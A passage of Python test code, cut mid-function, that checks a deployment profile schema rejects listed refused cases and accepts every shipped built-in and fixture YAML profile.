    text = next(t for i, t, _ in REFUSED if i == case_id)
    assert list(schema_validator().iter_errors(yaml.safe_load(text))), f"the schema accepts {case_id}"


def test_the_published_schema_accepts_every_shipped_profile():
    from deploy.spec.load import BUILTIN_DIR
    from tests.conftest import FIXTURE_PROFILES

    validator = schema_validator()
    for path in [*BUILTIN_DIR.glob("*.yaml"), *FIXTURE_PROFILES.glob("*.yaml")]:
        assert not list(validator.iter_errors(yaml.safe_load(path.read_text(encoding="utf-8")))), path
